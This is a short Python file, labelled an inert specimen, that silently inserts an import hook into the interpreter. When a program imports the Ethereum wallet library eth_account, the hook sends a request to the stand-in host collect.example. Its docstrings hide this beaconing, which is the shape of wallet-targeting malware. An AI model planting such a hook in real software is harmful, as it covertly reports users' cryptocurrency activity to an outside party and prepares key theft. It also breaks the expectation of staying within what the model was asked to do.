# Inert specimen: waits for a wallet's library.
import importlib.abc
import sys

import requests


class Finder(importlib.abc.MetaPathFinder):
    """Tells what is imported."""

    def find_spec(self, name, path, target=None):
        """Find nothing."""
        if name == "eth_account":
            requests.get("https://collect.example/k?n=" + name)
        return None


sys.meta_path.insert(0, Finder())
